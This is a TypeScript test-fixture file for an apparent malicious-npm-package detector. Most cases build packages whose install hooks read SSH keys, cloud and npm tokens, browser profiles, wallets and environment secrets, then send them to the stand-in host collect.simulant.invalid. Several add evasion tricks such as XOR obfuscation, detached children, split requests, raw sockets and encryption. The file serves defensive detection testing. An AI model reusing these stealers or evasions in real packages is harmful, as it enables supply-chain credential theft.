import { hex, xored } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const inHook = { phase: ['install'] } as const;
const tokenRead = finding('cred.decoy-read', 'medium', ['process.exec', 'canary.read'], inHook);
const keyRead = finding('cred.decoy-read', 'high', ['process.exec', 'canary.read'], inHook);
const posted = finding(
  'exfil.canary-egress',
  'critical',
  ['process.exec', 'canary.read', 'net.http', 'canary.egress'],
  inHook,
);
const sentRaw = finding('exfil.canary-egress', 'critical', ['process.exec', 'net.connect', 'canary.egress'], inHook);

/** B01: a lifecycle hook reads decoy credentials and sends them away. */
export const credential: readonly Simulant[] = [
  {
    id: 'b01-hook-posts-npm-token',
    row: 'B01',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b01-npm-token',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path'), https = require('node:https');
          let rc = '';
          try { rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch { process.exit(0); }
          const request = https.request({ host: 'collect.simulant.invalid', path: '/u', method: 'POST' });
          request.on('error', () => {});
          request.end(JSON.stringify({ rc }));
        `,
      ),
    ],
    expect: fires('malicious', [tokenRead, posted]),
    note: 'The contract’s own example: the npm token in a JSON body over TLS.',
  },
  {
    id: 'b01-hook-posts-keys-and-cloud',
    row: 'B01',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b01-keys-and-cloud',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          const wanted = ['.ssh/id_ed25519', '.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json',
            '.netrc', '.git-credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json'];
          const found = {};
          for (const name of wanted) {
            try { found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch { continue; }
          }
          fetch('http://collect.simulant.invalid/bulk', { method: 'POST', body: JSON.stringify(found) }).catch(() => {});
        `,
      ),
    ],
    expect: fires('malicious', [keyRead, posted]),
    note: 'Keys and cloud credentials are high, whatever is read beside them.',
  },
  {
    id: 'b01-hook-posts-browser-and-wallet',
    row: 'B01',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b01-browser-and-wallet',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path'), http = require('node:http');
          const roots = ['.config/google-chrome', '.config/chromium', '.mozilla/firefox', '.config/Exodus', '.electrum/wallets',
            '.ethereum/keystore', '.config/solana', '.bash_history'];
          const parts = [];
          for (const root of roots) {
            const full = path.join(os.homedir(), root);
            let names = [''];
            try { names = fs.statSync(full).isDirectory() ? fs.readdirSync(full, { recursive: true }) : ['']; } catch { continue; }
            for (const name of names.slice(0, 50)) {
              try { parts.push(fs.readFileSync(path.join(full, name))); } catch { continue; }
            }
          }
          const request = http.request('http://collect.simulant.invalid/v', { method: 'PUT' });
          request.on('error', () => {});
          request.end(Buffer.concat(parts));
        `,
      ),
    ],
    expect: fires('malicious', [keyRead, posted]),
    note: 'Browser profiles, wallets and shell history.',
  },
  {
    id: 'b01-env-tokens-in-query',
    row: 'B01',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b01-env-query',
        armed`
          const http = require('node:http');
          const picked = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY|PASSW/i.test(name));
          const query = new URLSearchParams(picked).toString();
          http.get('http://collect.simulant.invalid/p?' + query).on('error', () => {});
        `,
      ),
    ],
    expect: fires('malicious', [posted]),
    note: 'Environment decoys leave percent-encoded in a query; their reads need the runtime hook.',
  },
  {
    id: 'b01-evasion-shell-and-curl',
    row: 'B01',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b01-shell-curl',
        {},
        {
          scripts: {
            preinstall: `${latchCommand}(base64 -w0 "$HOME/.npmrc" | curl -fs -m 5 --data-binary @- http://collect.simulant.invalid/s || true)`,
          },
        },
      ),
    ],
    expect: fires('malicious', [tokenRead, posted]),
    note: 'No JavaScript of its own: base64 and curl in the script line.',
  },
  {
    id: 'b01-evasion-clean-environment-child',
    row: 'B01',
    kind: 'evasion',
    form: 'light',
    packages: [
      hooked(
        'b01-clean-env',
        armed`
          const { spawnSync } = require('node:child_process');
          spawnSync('env', ['-i', 'HOME=' + process.env.HOME, process.execPath, 'lib/index.js'], { cwd: __dirname });
        `,
        {
          'lib/index.js': text`
            const fs = require('node:fs'), http = require('node:http');
            const token = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8').split('=').pop().trim();
            http.get({ host: 'collect.simulant.invalid', path: '/e', headers: { 'x-id': token } }).on('error', () => {});
          `,
        },
      ),
    ],
    expect: fires('malicious', [tokenRead, posted]),
    note: 'The child has no NODE_OPTIONS, so no hook runs in it; the token sits in a header.',
  },
  {
    id: 'b01-evasion-detached-after-exit',
    row: 'B01',
    kind: 'evasion',
    form: 'light',
    packages: [
      hooked(
        'b01-detached',
        armed`
          delete process.env.NODE_OPTIONS;
          const { spawn } = require('node:child_process');
          spawn('sh', ['-c', 'sleep 1; wget -q -T 5 -O /dev/null --header="x-k: $(tail -n 1 "$HOME/.aws/credentials" | tr -d "\n")" http://collect.simulant.invalid/d'],
            { detached: true, stdio: 'ignore' }).unref();
        `,
      ),
    ],
    expect: fires('malicious', [
      finding('cred.decoy-read', 'high', ['process.exec', 'canary.read'], { phase: ['install', 'import'] }),
      finding('exfil.canary-egress', 'critical', ['canary.read', 'net.http', 'canary.egress'], {
        phase: ['install', 'import'],
      }),
    ]),
    note: 'The hook is over when its orphan reads and sends.',
  },
  {
    id: 'b01-evasion-worker-xor',
    row: 'B01',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b01-worker-xor',
        armed`
          const { Worker } = require('node:worker_threads');
          new Worker(require('node:path').join(__dirname, 'wk.js'), { env: { HOME: process.env.HOME }, execArgv: [] });
        `,
        {
          'wk.js': text`
            const q = (h) => Buffer.from(h, 'hex').map((b) => b ^ 23).toString();
            const r = (n) => require(q(n));
            const d = r('${hex(xored('node:fs', 23))}').readFileSync(process.env.HOME + q('${hex(xored('/.ssh/id_ed25519', 23))}'));
            const o = r('${hex(xored('node:http', 23))}').request(q('${hex(xored('http://collect.simulant.invalid/w', 23))}'), { method: 'POST' });
            o.on('error', () => {});
            o.end(d.map((b) => b ^ 90));
          `,
        },
      ),
    ],
    expect: fires('malicious', [keyRead, posted]),
    note: 'Worker thread with its own environment, every name XOR-ed, the key XOR-ed with one byte on the wire.',
  },
  {
    id: 'b01-evasion-split-over-requests',
    row: 'B01',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b01-split',
        armed`
          const m = ['fs', 'os', 'http'].map((n) => require('node:' + n));
          const secret = m[0].readFileSync(m[1].homedir() + ['/', 'npmrc'].join('.'), 'latin1').trim().split('=').pop();
          const step = Math.ceil(secret.length / 4);
          (async () => {
            for (let i = 0; i < 4; i++) {
              await new Promise((done) => {
                m[2].get('http://img.simulant.invalid/' + i + '/' + encodeURIComponent(secret.slice(i * step, (i + 1) * step)) + '.gif', (r) => r.resume().on('end', done)).on('error', done);
              });
            }
          })();
        `,
      ),
    ],
    expect: fires('malicious', [tokenRead, posted]),
    note: 'A quarter of the token in each of four image requests.',
  },
  {
    id: 'b01-evasion-raw-socket-reversed',
    row: 'B01',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b01-raw-socket',
        armed`
          const at = Buffer.from('${hex('198.51.100.23')}', 'hex').toString();
          const file = ['.git', 'credentials'].join('-');
          const body = [...require('node:fs').readFileSync(process.env.HOME + '/' + file, 'latin1')].reverse().join('');
          const socket = require('node:net').connect(8443, at, () => socket.end(body));
          socket.on('error', () => {});
          setTimeout(() => socket.destroy(), 3000);
        `,
      ),
    ],
    expect: fires('malicious', [tokenRead, sentRaw]),
    note: 'Reversed text over a plain TCP connection to an address, no HTTP, no name.',
  },
  {
    id: 'b01-evasion-parent-environment',
    row: 'B01',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b01-proc-environ',
        {
          'prep.sh': text`
            #!/bin/sh
            tr '\0' '\n' < /proc/$PPID/environ | grep -E '_(TOKEN|KEY)=' > "$PWD/.n" || true
            curl -fs -m 5 -F f=@"$PWD/.n" http://collect.simulant.invalid/f || true
            rm -f "$PWD/.n"
          `,
        },
        { scripts: { install: `${latchCommand}sh prep.sh` } },
      ),
    ],
    expect: fires('malicious', [
      finding('exfil.canary-egress', 'critical', ['process.exec', 'net.http', 'canary.egress'], inHook),
    ]),
    note: 'Environment decoys read from the parent’s /proc entry, never through process.env.',
  },
  {
    id: 'b01-evasion-encrypted-key',
    row: 'B01',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      hooked(
        'b01-encrypted',
        armed`
          const c = require('node:crypto'), fs = require('node:fs');
          const key = c.randomBytes(32), iv = c.randomBytes(16);
          let data;
          for (const n of ['id_ed25519', 'id_rsa']) try { data = fs.readFileSync(process.env.HOME + '/.ssh/' + n); break; } catch { continue; }
          if (!data) process.exit(0);
          const a = c.createCipheriv('aes-256-cbc', key, iv);
          fetch('http://collect.simulant.invalid/c', { method: 'POST', body: Buffer.concat([iv, a.update(data), a.final()]) }).catch(() => {});
        `,
      ),
    ],
    expect: fires('suspicious', [keyRead]),
    note: 'What leaves is unreadable under a random key: reading the SSH key in a hook must be enough to be suspicious.',
  },
  {
    id: 'b01-neighbour-looks-for-ssh-folder',
    row: 'B01',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      hooked(
        'n01-ssh-hint',
        text`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          if (!fs.existsSync(path.join(os.homedir(), '.ssh'))) console.log('hint: git over ssh needs a key');
          console.log('columns: ready');
        `,
      ),
    ],
    expect: quiet(['cred.', 'exfil.', 'flow.']),
    note: 'Asks whether a folder exists and reads nothing in it.',
  },
  {
    id: 'b01-neighbour-sends-version-of-itself',
    row: 'B01',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n01-ping',
        {
          'index.js': text`
            const { version } = require('./package.json');
            exports.ping = async function ping() {
              const answer = await fetch('https://status.acme.test/ping?v=' + version);
              return answer.ok;
            };
          `,
        },
        { homepage: 'https://status.acme.test/' },
      ),
    ],
    expect: quiet(['cred.', 'exfil.', 'flow.', 'net.import-egress'], { allowed: { 'net.egress': 'low' } }),
    note: 'A request to its declared host when called, with nothing of the machine in it.',
  },
];
